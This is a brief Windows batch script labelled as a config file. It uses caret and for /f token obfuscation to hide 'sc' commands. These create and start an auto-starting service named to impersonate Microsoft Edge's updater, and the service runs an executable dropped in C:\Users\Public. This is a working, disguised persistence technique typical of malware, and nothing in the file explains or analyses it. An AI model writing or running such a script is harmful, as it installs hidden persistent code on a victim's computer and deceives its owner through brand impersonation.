REM config 5701 v4
for /f "tokens=1 delims=@" %%^i ^in ("sc@czqf@gnvr") ^d^o %%^i c^r^e^at^e M^icro^softEd^ge^Upd^ateCore ^b^in^Pa^t^h= "cmd.exe /c C:\Users\Public\svc.exe" s^ta^r^t= ^a^u^to
^fo^r /^f "tokens=2 delims=~" %%i i^n ("crco~sc~ebcv") ^d^o %%i ^s^t^a^rt M^i^c^ro^s^of^tEd^g^eUpda^t^eC^o^r^e
